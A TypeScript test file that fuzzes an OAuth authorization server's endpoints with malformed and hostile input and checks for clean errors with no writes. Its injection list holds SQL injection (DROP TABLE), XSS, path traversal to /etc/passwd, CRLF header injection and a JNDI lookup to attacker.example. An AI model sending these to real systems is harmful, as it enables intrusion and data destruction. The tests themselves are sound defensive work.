import { request as httpRequest } from 'node:http';
import type { IncomingHttpHeaders, OutgoingHttpHeaders } from 'node:http';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { Browser, forms, Page } from './support/browser.js';
import { authorize, authorizeUrl, basic, delegateBank, obtainPat, obtainTokens, pkce, registerClient, TestClient } from './support/fixtures.js';
import { RunningApp, startApp } from './support/app.js';
import { DbSnapshot, diffDb, snapshotDb } from './support/db-snapshot.js';
import { drip, startLocalOrigin } from './support/local-origin.js';
import type { LocalOrigin } from './support/local-origin.js';
import jwt from 'jsonwebtoken';
import { generateKeyPairSync } from 'node:crypto';
import { BankDelegationEntity } from '../src/banks/entities/bank-delegation.entity.js';
import { GrapherConnectionEntity } from '../src/grapher/entities/grapher-connection.entity.js';
import { ResourceEntity } from '../src/as/entities/resource.entity.js';
import { ActivityService } from '../src/as/core/activity.service.js';
import { SetDispatcher } from '../src/as/core/set-dispatcher.service.js';

/**
 * RFC 9700 / issue 6, "Bad input everywhere": malformed JSON and forms, wrong content types, duplicate and
 * unknown parameters, oversized bodies, long headers and injection strings in every field and path
 * parameter. Each gets a clear 4xx with the right error code — RFC JSON at protocol endpoints, a readable
 * page where a browser asks for HTML — never a 5xx, never a stack trace, and never a written record.
 * The last part throws random and malformed requests (fast-check) at every endpoint of a live setup.
 */

// ---------------------------------------------------------------------------------------------------------
// Plumbing: raw HTTP (so bodies, duplicate headers, methods and paths go out exactly as written)
// ---------------------------------------------------------------------------------------------------------

interface Sent {
  method: string;
  path: string;
  headers?: Record<string, string | string[]>;
  body?: string | Uint8Array;
}

interface Answer {
  status: number;
  headers: IncomingHttpHeaders;
  text: string;
  json: Record<string, any>;
}

function send(run: RunningApp, req: Sent): Promise<Answer> {
  const port = Number(new URL(run.baseUrl).port);
  return new Promise((resolve, reject) => {
    const headers: OutgoingHttpHeaders = { host: `localhost:${port}`, ...req.headers };
    if (req.body !== undefined) headers['content-length'] = Buffer.byteLength(req.body);
    const r = httpRequest({ host: '127.0.0.1', port, method: req.method, path: req.path, headers, agent: false, timeout: 60_000 }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('error', reject);
      res.on('end', () => {
        const text = Buffer.concat(chunks).toString('utf8');
        let json: Record<string, any> = {};
        try {
          json = JSON.parse(text) as Record<string, any>;
        } catch {
          // not JSON
        }
        resolve({ status: res.statusCode ?? 0, headers: res.headers, text, json: json ?? {} });
      });
    });
    r.on('timeout', () => r.destroy(new Error(`no answer within 60 s to ${req.method} ${req.path}`)));
    r.on('error', reject);
    r.end(req.body);
  });
}

const FORM = 'application/x-www-form-urlencoded';
const JSON_TYPE = 'application/json';
const HTML = 'text/html,application/xhtml+xml';

/** A form body from pairs, so a parameter can be repeated. */
function formBody(pairs: Record<string, string | string[]> | [string, string][]): string {
  const p = new URLSearchParams();
  const entries = Array.isArray(pairs) ? pairs : Object.entries(pairs).flatMap(([k, v]) => (Array.isArray(v) ? v : [v]).map((one) => [k, one] as [string, string]));
  for (const [k, v] of entries) p.append(k, v);
  return p.toString();
}

function query(pairs: Record<string, string | string[]> | [string, string][]): string {
  const q = formBody(pairs);
  return q ? `?${q}` : '';
}

/** encodeURIComponent that does not throw on lone surrogates. */
function enc(s: string): string {
  return encodeURIComponent(s.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd'));
}

/** The test browser's cookies for a URL (its jar is private; the suites only need to replay them). */
function cookiesOf(browser: Browser, url: string): string {
  return (browser as unknown as { cookieHeader(u: URL): string }).cookieHeader(new URL(url));
}

function csrfOn(page: Page, actionPart: string): string {
  const form = forms(page).find((f) => f.action.includes(actionPart));
  const value = form?.fields._csrf;
  if (typeof value !== 'string') throw new Error(`no _csrf in a form for ${actionPart} on ${page.url}`);
  return value;
}

const contentType = (res: Answer) => String(res.headers['content-type'] ?? '').split(';')[0].trim();

// ---------------------------------------------------------------------------------------------------------
// What every answer to bad input must look like
// ---------------------------------------------------------------------------------------------------------

/** A Node/V8 stack frame, a source path, or a module path: none may reach a client. */
const STACK_TRACE = /(?:^|\n|\\n)\s*at [^\n]*:\d+:\d+|node_modules[\\/]|[\\/](?:src|dist)[\\/][\w/.-]+\.[jt]s\b|\b(?:TypeError|ReferenceError|RangeError|SyntaxError|QueryFailedError|EntityNotFound)\b|SQLITE_/;

function expectClean(label: string, res: Answer): void {
  expect({ label, status: res.status < 500 ? 'under 500' : res.status }).toEqual({ label, status: 'under 500' });
  expect({ label, leak: STACK_TRACE.exec(res.text)?.[0] ?? null }).toEqual({ label, leak: null });
}

/** RFC 6749 §5.2-style JSON error: the status, one of the codes, no caching. */
function expectOAuthError(label: string, res: Answer, status: number, ...codes: string[]): void {
  expectClean(label, res);
  // application/json, or a +json type a route declares (WebFinger answers application/jrd+json).
  expect({ label, status: res.status, json: /^application\/(?:[\w.-]+\+)?json$/.test(contentType(res)) }).toEqual({ label, status, json: true });
  expect({ label, error: codes.includes(res.json.error) ? 'expected' : res.json.error }).toEqual({ label, error: 'expected' });
  expect({ label, cacheControl: res.headers['cache-control'] }).toEqual({ label, cacheControl: 'no-store' });
}

/**
 * Markup a client sent never comes back as markup: an HTML answer escapes it, and a JSON answer that
 * echoes it in error_description is served as JSON with nosniff, so no browser renders it.
 */
function expectNotRendered(label: string, res: Answer): void {
  if (contentType(res) === 'text/html') expect({ label, raw: res.text.includes(XSS) }).toEqual({ label, raw: false });
  else expect({ label, type: contentType(res), sniff: res.headers['x-content-type-options'] }).toEqual({ label, type: expect.stringMatching(/json$/), sniff: 'nosniff' });
}

/** A readable HTML error page for a person. */
function expectErrorPage(label: string, res: Answer, ...statuses: number[]): void {
  expectClean(label, res);
  expect({ label, status: statuses.includes(res.status) ? 'expected' : res.status, type: contentType(res) }).toEqual({ label, status: 'expected', type: 'text/html' });
  expect({ label, heading: /<h1>[^<]+<\/h1>/.test(res.text) }).toEqual({ label, heading: true });
  expect({ label, location: res.headers.location ?? null }).toEqual({ label, location: null });
}

/** The security headers every answer carries (src/common/security-headers.ts, helmet): no HSTS over http. */
function expectSecurityHeaders(label: string, res: Answer): void {
  expect({
    label,
    frame: res.headers['x-frame-options'],
    referrer: res.headers['referrer-policy'],
    sniff: res.headers['x-content-type-options'],
    csp: /frame-ancestors 'none'/.test(String(res.headers['content-security-policy'] ?? '')),
    coop: res.headers['cross-origin-opener-policy'],
    corp: res.headers['cross-origin-resource-policy'],
    hsts: res.headers['strict-transport-security'] ?? null,
  }).toEqual({ label, frame: 'DENY', referrer: 'no-referrer', sniff: 'nosniff', csp: true, coop: 'same-origin', corp: 'same-origin', hsts: null });
}

/** Strings an attacker tries in every field. */
const XSS = '<script>alert(1)</script>';
const INJECTIONS = [
  "' OR 1=1 --",
  '"; DROP TABLE as_clients; --',
  XSS,
  '"><img src=x onerror=alert(1)>',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  'nul\u0000byte',
  'a\r\nSet-Cookie: injected=1',
  '%0d%0aSet-Cookie:%20injected=1',
  '100% %zz %E0%A4%A',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'Ω≈ç√∫ 😀 \u202egnp.exe \u200b',
  'lone \ud800 surrogate',
];
/** The same, already percent-encoded for a path segment, plus encodings a router must survive. */
const PATH_INJECTIONS = [...INJECTIONS.map(enc), '..%2f..%2fetc%2fpasswd', '%2e%2e', '%zz', '%E0%A4%A', '%c0%ae%c0%ae', 'x%00y', '%0d%0a'];
/** Those a router can decode (the others are a 400 before any route runs). */
const DECODABLE_PATH_INJECTIONS = PATH_INJECTIONS.filter((s) => {
  try {
    decodeURIComponent(s);
    return true;
  } catch {
    return false;
  }
});

/**
 * Every table as the app leaves it once settled: activity lines it batches (ActivityService) are written
 * first, and security events an accepted request queued (an account deleted) are pushed first (SetDispatcher). `throttle_counters` is left out: counting a refused attempt is the throttle's whole job (with
 * PostgreSQL its counters are rows; on SQLite they are in memory).
 */
async function settledSnapshot(run: RunningApp): Promise<DbSnapshot> {
  await run.app.get(ActivityService, { strict: false }).flush();
  await run.app.get(SetDispatcher, { strict: false }).flush();
  return snapshotDb(run.db, ['throttle_counters']);
}

/**
 * Runs a request the server must refuse and expects every table — web_sessions included, see the
 * property below for why — byte-identical before and after.
 */
async function expectUnchangedBy<T>(run: RunningApp, label: string, fn: () => Promise<T>): Promise<T> {
  const before = await settledSnapshot(run);
  const out = await fn();
  const after = await settledSnapshot(run);
  expect({ label, changed: diffDb(before, after) }).toEqual({ label, changed: [] });
  return out;
}

// =========================================================================================================
// 1. Deterministic bad input, by area
// =========================================================================================================

describe('Bad input everywhere', () => {
  let run: RunningApp;
  let browser: Browser;
  let client: TestClient;
  let tokens: Record<string, any>;
  let rs: { client: TestClient; pat: string };
  let bankToken: { endpoint: string; token: string };

  const json = (path: string, body: unknown, headers: Record<string, string> = {}) =>
    send(run, { method: 'POST', path, headers: { 'content-type': JSON_TYPE, accept: JSON_TYPE, ...headers }, body: typeof body === 'string' ? body : JSON.stringify(body) });
  const form = (path: string, body: Record<string, string | string[]> | [string, string][], headers: Record<string, string> = {}) =>
    send(run, { method: 'POST', path, headers: { 'content-type': FORM, accept: JSON_TYPE, ...headers }, body: formBody(body) });
  const get = (path: string, headers: Record<string, string> = {}) => send(run, { method: 'GET', path, headers: { accept: JSON_TYPE, ...headers } });

  let dripping: LocalOrigin;

  beforeAll(async () => {
    // A party that answers 200 at once and then drips its body for ever (see 'Slow bodies').
    dripping = await startLocalOrigin();
    for (const path of ['/as/intro', '/.well-known/oauth-authorization-server', '/bank/account']) dripping.route(path, drip());
    // Banks ask the AS (which logs it) about tokens older than the recheck interval, before they look at the
    // query: a logged introspection is not what these tests are about, so the interval outlasts the suite.
    run = await startApp({ BANK_TOKEN_RECHECK_SECONDS: '600', TRUSTED_LOCAL_ORIGINS: dripping.origin });
    browser = new Browser();
    await delegateBank(browser, run.baseUrl, 'astoria');
    client = await registerClient(run.baseUrl);
    tokens = await obtainTokens(browser, run.baseUrl, client);
    rs = await obtainPat(browser, run.baseUrl, 'https://rs.example', 'Bad Input Bank');
    const intro = await send(run, { method: 'GET', path: '/as/intro', headers: { authorization: `Bearer ${tokens.access_token}` } });
    const entry = Object.values(intro.json).find((e: any) => String(e.endpoint).includes('/banks/astoria/')) as { endpoint: string; access_token: string };
    bankToken = { endpoint: new URL(entry.endpoint).pathname, token: entry.access_token };
  }, 60_000);
  afterAll(async () => {
    await run.close();
    await dripping.close();
  });

  // -------------------------------------------------------------------------------------------------------
  describe('AS protocol endpoints', () => {
    describe('POST /as/register (RFC 7591)', () => {
      const valid = { client_name: 'Bad Input App', redirect_uris: ['https://client.example/cb'], scope: 'accounts:read' };

      it('malformed JSON, and JSON that is not an object, is a 400 and writes no client', async () => {
        const bodies = [
          '{bad',
          '{"redirect_uris": ["https://client.example/cb"',
          '{"redirect_uris": ["https://client.example/cb"]} trailing',
          "{'single': 'quotes'}",
          'null',
          'true',
          '42',
          '"https://client.example/cb"',
          '[]',
          JSON.stringify([valid]),
          '\u0000',
          '['.repeat(30_000) + ']'.repeat(30_000),
        ];
        for (const body of bodies) {
          const label = `register ${body.slice(0, 40)}`;
          const res = await expectUnchangedBy(run, label, () => json('/as/register', body));
          expectOAuthError(label, res, 400, 'invalid_request', 'invalid_client_metadata');
        }
      });

      it('every metadata field of the wrong type or value: invalid_client_metadata / invalid_redirect_uri, no client written', async () => {
        const cases: [Record<string, unknown>, string][] = [
          [{ ...valid, redirect_uris: 'https://client.example/cb' }, 'invalid_redirect_uri'],
          [{ ...valid, redirect_uris: [] }, 'invalid_redirect_uri'],
          [{ ...valid, redirect_uris: [42] }, 'invalid_redirect_uri'],
          [{ ...valid, redirect_uris: [null] }, 'invalid_redirect_uri'],
          [{ ...valid, redirect_uris: [{ uri: 'https://client.example/cb' }] }, 'invalid_redirect_uri'],
          [{ ...valid, redirect_uris: Array.from({ length: 11 }, (_, i) => `https://client.example/${i}`) }, 'invalid_redirect_uri'],
          [{ ...valid, redirect_uris: [`https://client.example/${'a'.repeat(3000)}`] }, 'invalid_redirect_uri'],
          [{ ...valid, redirect_uris: ['javascript:alert(1)'] }, 'invalid_redirect_uri'],
          [{ ...valid, client_name: 42 }, 'invalid_client_metadata'],
          [{ ...valid, client_name: { en: 'x' } }, 'invalid_client_metadata'],
          [{ ...valid, client_name: '   ' }, 'invalid_client_metadata'],
          [{ ...valid, client_name: 'x'.repeat(129) }, 'invalid_client_metadata'],
          [{ ...valid, scope: ['accounts:read'] }, 'invalid_client_metadata'],
          [{ ...valid, scope: 'accounts:write' }, 'invalid_client_metadata'],
          [{ ...valid, token_endpoint_auth_method: 'none' }, 'invalid_client_metadata'],
          [{ ...valid, token_endpoint_auth_method: ['client_secret_basic'] }, 'invalid_client_metadata'],
          [{ ...valid, grant_types: 'authorization_code' }, 'invalid_client_metadata'],
          [{ ...valid, grant_types: ['implicit'] }, 'invalid_client_metadata'],
          [{ ...valid, grant_types: ['refresh_token'] }, 'invalid_client_metadata'],
          [{ ...valid, response_types: ['token'] }, 'invalid_client_metadata'],
          [{ ...valid, response_types: 'code' }, 'invalid_client_metadata'],
          [{ ...valid, resource_server: 42 }, 'invalid_client_metadata'],
          [{ ...valid, resource_server: 'not a url' }, 'invalid_client_metadata'],
          [{ ...valid, resource_server: 'https://client.example/?q=1' }, 'invalid_client_metadata'],
          [{ ...valid, resource_server: 'https://elsewhere.example' }, 'invalid_client_metadata'],
        ];
        for (const [body, code] of cases) {
          const label = `register ${JSON.stringify(body).slice(0, 120)}`;
          const res = await expectUnchangedBy(run, label, () => json('/as/register', body));
          expectOAuthError(label, res, 400, code);
        }
      });

      it('injection strings in every metadata field are refused, and none reaches the database', async () => {
        const fields = ['redirect_uris', 'scope', 'token_endpoint_auth_method', 'grant_types', 'response_types', 'resource_server'];
        for (const inj of INJECTIONS) {
          for (const field of fields) {
            const value = ['redirect_uris', 'grant_types', 'response_types'].includes(field) ? [inj] : inj;
            const label = `register ${field}=${JSON.stringify(inj)}`;
            const res = await expectUnchangedBy(run, label, () => json('/as/register', { ...valid, [field]: value }));
            expectOAuthError(label, res, 400, 'invalid_client_metadata', 'invalid_redirect_uri');
            expectNotRendered(label, res);
          }
        }
      });

      it('a client_name with markup is stored as text and escaped on the consent page (treated as unverified)', async () => {
        const evil = await registerClient(run.baseUrl, { client_name: `${XSS} Evil" onload="x` });
        const res = await browser.request('GET', authorizeUrl(run.baseUrl, evil, { code_challenge: pkce().challenge, code_challenge_method: 'S256' }));
        const page = await browser.request('GET', new URL(res.headers.get('location') as string, run.baseUrl).toString());
        expect(page.status).toBe(200);
        expect(page.html).not.toContain(XSS);
        expect(page.html).not.toContain('Evil" onload="x');
        expect(page.html).toContain('&lt;script&gt;');
      });

      it('RFC 7591 §2: unknown metadata is ignored, not echoed, and pollutes nothing', async () => {
        const body = `{"client_name":"Extra","redirect_uris":["https://client.example/cb"],"scope":"accounts:read","software_id":"x","foo":{"bar":[1,2]},"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}`;
        const res = await json('/as/register', body);
        expect(res.status).toBe(201);
        expect(res.json.client_id).toEqual(expect.any(String));
        expect(Object.keys(res.json)).not.toEqual(expect.arrayContaining(['foo']));
        expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      });

      it('RFC 7591 §3.1: only a JSON body registers a client — a form post (a cross-site "simple request") is refused', async () => {
        const bodies: [string, string][] = [
          [FORM, formBody([['redirect_uris', 'https://a.example/cb'], ['redirect_uris', 'https://b.example/cb'], ['client_name', 'Form App']])],
          ['text/plain', JSON.stringify(valid)],
          ['multipart/form-data; boundary=x', `--x\r\nContent-Disposition: form-data; name="redirect_uris"\r\n\r\nhttps://a.example/cb\r\n--x--\r\n`],
        ];
        for (const [type, body] of bodies) {
          const label = `register as ${type}`;
          const res = await expectUnchangedBy(run, label, () => send(run, { method: 'POST', path: '/as/register', headers: { 'content-type': type, accept: JSON_TYPE }, body }));
          expect({ label, status: [400, 415].includes(res.status) ? '400 or 415' : res.status }).toEqual({ label, status: '400 or 415' });
          expectClean(label, res);
          expect({ label, error: ['invalid_request', 'invalid_client_metadata'].includes(res.json.error) }).toEqual({ label, error: true });
        }
      });
    });

    describe('POST /as/token (RFC 6749 §3.2, §5.2)', () => {
      const auth = () => ({ authorization: basic(client.client_id, client.client_secret) });

      /** A fresh code for the client, and its verifier. */
      async function freshCode() {
        const p = pkce();
        const back = await authorize(browser, authorizeUrl(run.baseUrl, client, { code_challenge: p.challenge, code_challenge_method: 'S256' }));
        return { code: back.searchParams.get('code') as string, verifier: p.verifier };
      }

      it('a body that is not a form (JSON, text, multipart, none) is invalid_request', async () => {
        const cases: [string | undefined, string | undefined][] = [
          [JSON_TYPE, JSON.stringify({ grant_type: 'refresh_token', refresh_token: 'x' })],
          [JSON_TYPE, '{bad'],
          ['text/plain', 'grant_type=refresh_token&refresh_token=x'],
          ['multipart/form-data; boundary=x', `--x\r\nContent-Disposition: form-data; name="grant_type"\r\n\r\nrefresh_token\r\n--x--\r\n`],
          ['application/xml', '<grant_type>refresh_token</grant_type>'],
          [undefined, 'grant_type=refresh_token&refresh_token=x'],
          [undefined, undefined],
          ['garbage/!!', 'grant_type=refresh_token'],
        ];
        for (const [type, body] of cases) {
          const label = `token as ${type} ${body?.slice(0, 30)}`;
          const headers: Record<string, string> = { accept: JSON_TYPE, ...auth() };
          if (type) headers['content-type'] = type;
          const res = await expectUnchangedBy(run, label, () => send(run, { method: 'POST', path: '/as/token', headers, body }));
          expectOAuthError(label, res, 400, 'invalid_request');
        }
      });

      it('a missing or empty grant_type is invalid_request; an unknown one, even a name on Object.prototype, is unsupported_grant_type', async () => {
        for (const body of [{}, { grant_type: '' }, { code: 'x' }] as Record<string, string>[]) {
          const label = `token ${JSON.stringify(body)}`;
          expectOAuthError(label, await form('/as/token', body, auth()), 400, 'invalid_request');
        }
        for (const grantType of ['password', 'client_credentials', 'implicit', 'urn:ietf:params:oauth:grant-type:jwt-bearer', 'constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf', ...INJECTIONS]) {
          const label = `grant_type=${JSON.stringify(grantType)}`;
          const res = await expectUnchangedBy(run, label, () => form('/as/token', { grant_type: grantType, code: 'x', refresh_token: 'x' }, auth()));
          expectOAuthError(label, res, 400, 'unsupported_grant_type');
          expectNotRendered(label, res);
        }
      });

      it('§3.2: any repeated parameter is invalid_request', async () => {
        const { code, verifier } = await freshCode();
        const good: [string, string][] = [['grant_type', 'authorization_code'], ['code', code], ['redirect_uri', client.redirect_uri], ['code_verifier', verifier]];
        for (const [name, value] of good) {
          const label = `token with ${name} twice`;
          const res = await expectUnchangedBy(run, label, () => form('/as/token', [...good, [name, value]], auth()));
          expectOAuthError(label, res, 400, 'invalid_request');
        }
        const refresh: [string, string][] = [['grant_type', 'refresh_token'], ['refresh_token', tokens.refresh_token as string], ['scope', 'accounts:read']];
        for (const name of ['refresh_token', 'scope']) {
          const label = `refresh with ${name} repeated`;
          const body = [...refresh, refresh.find(([k]) => k === name) as [string, string]];
          expectOAuthError(label, await expectUnchangedBy(run, label, () => form('/as/token', body, auth())), 400, 'invalid_request');
        }
        // The code was never spent on a malformed request: it still redeems once.
        const ok = await form('/as/token', good, auth());
        expect(ok.status).toBe(200);
      });

      it('injection strings in code, redirect_uri, code_verifier, refresh_token and scope: RFC errors, nothing written', async () => {
        for (const inj of INJECTIONS) {
          const cases: [Record<string, string>, string[]][] = [
            [{ grant_type: 'authorization_code', code: inj, redirect_uri: client.redirect_uri, code_verifier: 'v'.repeat(43) }, ['invalid_grant']],
            [{ grant_type: 'authorization_code', code: 'x', redirect_uri: inj, code_verifier: 'v'.repeat(43) }, ['invalid_grant']],
            [{ grant_type: 'authorization_code', code: 'x', redirect_uri: client.redirect_uri, code_verifier: inj }, ['invalid_grant']],
            [{ grant_type: 'refresh_token', refresh_token: inj }, ['invalid_grant']],
            [{ grant_type: 'refresh_token', refresh_token: tokens.refresh_token as string, scope: inj }, ['invalid_scope']],
          ];
          for (const [body, codes] of cases) {
            const label = `token ${JSON.stringify(body)}`;
            const res = await expectUnchangedBy(run, label, () => form('/as/token', body, auth()));
            expectOAuthError(label, res, 400, ...codes);
            expectNotRendered(label, res);
          }
        }
      });

      it('values over their length bound are invalid_request before any lookup', async () => {
        for (const [name, len] of [['code', 513], ['redirect_uri', 2049], ['code_verifier', 257], ['refresh_token', 513], ['scope', 513], ['client_id', 129], ['client_secret', 257]] as const) {
          const label = `token ${name} of ${len}`;
          const body = { grant_type: 'authorization_code', code: 'x', redirect_uri: client.redirect_uri, code_verifier: 'v'.repeat(43), [name]: 'a'.repeat(len) };
          const res = await expectUnchangedBy(run, label, () => form('/as/token', body, name === 'client_id' || name === 'client_secret' ? {} : auth()));
          expectOAuthError(label, res, 400, 'invalid_request');
        }
      });

      it('§3.1/§3.2: unknown parameters are ignored — a valid request with extra ones still succeeds', async () => {
        const { code, verifier } = await freshCode();
        const res = await form(
          '/as/token',
          { grant_type: 'authorization_code', code, redirect_uri: client.redirect_uri, code_verifier: verifier, foo: 'bar', resource: 'https://x.example', audience: XSS, 'a[b]': 'c', ['__proto__']: 'x', nonce: "' OR 1=1 --" },
          auth(),
        );
        expect(res.status).toBe(200);
        expect(res.json.access_token).toEqual(expect.any(String));
        const refreshed = await form('/as/token', { grant_type: 'refresh_token', refresh_token: res.json.refresh_token as string, unknown_param: 'x', dpop: 'y' }, auth());
        expect(refreshed.status).toBe(200);
      });

      it('malformed client authentication is 401 invalid_client with WWW-Authenticate, and writes nothing', async () => {
        const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
        const headers = [
          'Basic',
          'Basic ',
          'Basic !!!!',
          `Basic ${b64('no-colon-here')}`,
          `Basic ${b64(':')}`,
          `Basic ${b64('%ZZ:%ZZ')}`,
          `Basic ${b64("' OR 1=1 --:' OR 1=1 --")}`,
          `Basic ${b64(`${XSS}:x`)}`,
          `Basic ${b64('__proto__:x')}`,
          `Basic ${b64(`nobody:${'s'.repeat(5000)}`)}`,
          'Bearer abc',
          'Digest username="x"',
          XSS,
        ];
        for (const authorization of headers) {
          const label = `token with Authorization: ${authorization.slice(0, 40)}`;
          const res = await expectUnchangedBy(run, label, () => form('/as/token', { grant_type: 'refresh_token', refresh_token: 'x' }, { authorization }));
          expectOAuthError(label, res, 401, 'invalid_client');
          expect({ label, www: /^Basic realm=/.test(String(res.headers['www-authenticate'])) }).toEqual({ label, www: true });
        }
      });

      it('client_secret_post with a repeated client_id or client_secret is invalid_request', async () => {
        for (const body of [
          [['grant_type', 'refresh_token'], ['refresh_token', 'x'], ['client_id', 'a'], ['client_id', 'b'], ['client_secret', 's']],
          [['grant_type', 'refresh_token'], ['refresh_token', 'x'], ['client_id', 'a'], ['client_secret', 's'], ['client_secret', 't']],
        ] as [string, string][][]) {
          const label = `token ${formBody(body)}`;
          expectOAuthError(label, await expectUnchangedBy(run, label, () => form('/as/token', body)), 400, 'invalid_request');
        }
      });
    });

    describe('POST /as/revoke and /as/introspect (RFC 7009, RFC 7662)', () => {
      const rsAuth = () => ({ authorization: basic(rs.client.client_id, rs.client.client_secret) });

      it('no client authentication is 401 invalid_client with WWW-Authenticate', async () => {
        for (const path of ['/as/revoke', '/as/introspect']) {
          const res = await expectUnchangedBy(run, path, () => form(path, { token: tokens.access_token as string }));
          expectOAuthError(path, res, 401, 'invalid_client');
          expect(res.headers['www-authenticate']).toMatch(/^Basic /);
        }
      });

      it('a missing, empty, repeated or oversized token, or a non-form body, is invalid_request', async () => {
        for (const path of ['/as/revoke', '/as/introspect']) {
          for (const body of [{}, { token: '' }, { token: ['a', 'b'] }, { token: 'a'.repeat(4097) }, { token: 'a', token_type_hint: ['access_token', 'refresh_token'] }] as Record<string, string | string[]>[]) {
            const label = `${path} ${JSON.stringify(body).slice(0, 60)}`;
            expectOAuthError(label, await expectUnchangedBy(run, label, () => form(path, body, rsAuth())), 400, 'invalid_request');
          }
          const label = `${path} as JSON`;
          expectOAuthError(label, await expectUnchangedBy(run, label, () => json(path, { token: 'x' }, rsAuth())), 400, 'invalid_request');
        }
      });

      it('an unknown token_type_hint is only a hint: the search extends to every type (RFC 7009 §2.1, RFC 7662 §2.1), no error', async () => {
        for (const hint of ['id_token', 'urn:ietf:params:oauth:token-type:jwt', XSS]) {
          const revoke = await expectUnchangedBy(run, `revoke hint ${hint}`, () => form('/as/revoke', { token: 'not-a-token', token_type_hint: hint }, rsAuth()));
          expect({ hint, status: revoke.status, body: revoke.json }).toEqual({ hint, status: 200, body: {} });
          const intro = await expectUnchangedBy(run, `introspect hint ${hint}`, () => form('/as/introspect', { token: 'not-a-token', token_type_hint: hint }, rsAuth()));
          expect({ hint, status: intro.status, body: intro.json }).toEqual({ hint, status: 200, body: { active: false } });
        }
      });

      it('injection strings as the token: revocation answers 200 (§2.2) and introspection inactive, and nothing changes', async () => {
        for (const inj of [...INJECTIONS, 'a.b.c', 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.', 'eyJ.eyJ.sig']) {
          const revoke = await expectUnchangedBy(run, `revoke ${inj}`, () => form('/as/revoke', { token: inj }, rsAuth()));
          expect({ inj, status: revoke.status, body: revoke.json }).toEqual({ inj, status: 200, body: {} });
          const intro = await expectUnchangedBy(run, `introspect ${inj}`, () => form('/as/introspect', { token: inj }, rsAuth()));
          expect({ inj, status: intro.status, body: intro.json }).toEqual({ inj, status: 200, body: { active: false } });
        }
      });
    });

    describe('GET /as/authorize (RFC 6749 §4.1.2.1)', () => {
      const base = () => ({ response_type: 'code', client_id: client.client_id, redirect_uri: client.redirect_uri, scope: 'accounts:read', state: 's1', code_challenge: pkce().challenge, code_challenge_method: 'S256' });
      const authz = (params: Record<string, string | string[]> | [string, string][], accept = HTML) => get(`/as/authorize${query(params)}`, { accept });

      it('client_id missing, empty, repeated, bracketed or an injection string: an error page, never a redirect', async () => {
        const cases: [string, string][][] = [
          [],
          [['client_id', '']],
          [['client_id', client.client_id], ['client_id', client.client_id]],
          [['client_id[x]', client.client_id]],
          ...INJECTIONS.map((inj) => [['client_id', inj]] as [string, string][]),
        ];
        for (const c of cases) {
          const b = base();
          const pairs: [string, string][] = [...Object.entries(b).filter(([k]) => k !== 'client_id'), ...c];
          const label = `authorize ${formBody(c)}`;
          const res = await expectUnchangedBy(run, label, () => authz(pairs));
          expectErrorPage(label, res, 400);
          expectNotRendered(label, res);
        }
      });

      it('redirect_uri missing, repeated, near-miss or an injection string: an error page, never a redirect', async () => {
        const values: (string | string[] | undefined)[] = [undefined, '', [client.redirect_uri, client.redirect_uri], `${client.redirect_uri}%00`, `${client.redirect_uri}\r\n`, ...INJECTIONS];
        for (const v of values) {
          const params: Record<string, string | string[]> = { ...base() };
          if (v === undefined) delete params.redirect_uri;
          else params.redirect_uri = v;
          const label = `authorize redirect_uri=${JSON.stringify(v)}`;
          const res = await expectUnchangedBy(run, label, () => authz(params));
          expectErrorPage(label, res, 400);
        }
      });

      it('with a valid client and redirect_uri, injection strings in every other parameter come back as RFC errors by redirect', async () => {
        const expected: Record<string, string> = { response_type: 'unsupported_response_type', scope: 'invalid_scope', code_challenge: 'invalid_request', code_challenge_method: 'invalid_request' };
        for (const inj of INJECTIONS) {
          for (const [name, code] of Object.entries(expected)) {
            const label = `authorize ${name}=${JSON.stringify(inj)}`;
            const res = await expectUnchangedBy(run, label, () => authz({ ...base(), [name]: inj }));
            expectClean(label, res);
            expect({ label, status: res.status }).toEqual({ label, status: 303 });
            const location = String(res.headers.location);
            expect(location).not.toMatch(/[\r\n]/);
            const back = new URL(location);
            expect({ label, to: back.origin + back.pathname, error: back.searchParams.get('error'), state: back.searchParams.get('state') }).toEqual({ label, to: client.redirect_uri, error: code, state: 's1' });
          }
        }
      });

      it('state is opaque: any string up to 512 characters travels back exactly, encoded — never as a header break', async () => {
        for (const inj of INJECTIONS.filter((s) => !/[\ud800-\udfff]/.test(s))) {
          const res = await authz({ ...base(), state: inj, scope: 'accounts:write' });
          expect(res.status).toBe(303);
          expect(res.headers['set-cookie'] ?? []).not.toEqual(expect.arrayContaining([expect.stringContaining('injected')]));
          expect(new URL(String(res.headers.location)).searchParams.get('state')).toBe(inj);
        }
        const tooLong = await authz({ ...base(), state: 'a'.repeat(513) });
        expect(new URL(String(tooLong.headers.location)).searchParams.get('error')).toBe('invalid_request');
      });

      it('§3.1: a repeated state, response_type, code_challenge or code_challenge_method is invalid_request', async () => {
        for (const name of ['state', 'response_type', 'code_challenge', 'code_challenge_method']) {
          const b = base();
          const pairs: [string, string][] = [...Object.entries(b), [name, (b as Record<string, string>)[name]]];
          const label = `authorize with ${name} twice`;
          const res = await expectUnchangedBy(run, label, () => authz(pairs));
          expect({ label, status: res.status, error: new URL(String(res.headers.location)).searchParams.get('error') }).toEqual({ label, status: 303, error: 'invalid_request' });
        }
      });

      it('§3.1: unknown parameters are ignored — the request goes on to consent', async () => {
        const res = await browser.request('GET', `${run.baseUrl}/as/authorize${query({ ...base(), foo: 'bar', prompt: 'none', nonce: XSS, resource: "' OR 1=1 --", 'a[b]': 'c', ['__proto__']: 'x' })}`);
        expect(res.status).toBe(303);
        const next = new URL(res.headers.get('location') as string, run.baseUrl);
        expect(next.pathname).toMatch(/^\/as\/consent\/[A-Za-z0-9_-]+$/);
      });
    });

    describe('discovery', () => {
      it('WebFinger: a missing, repeated or injected resource is 400 invalid_request or 404 not_found, never more', async () => {
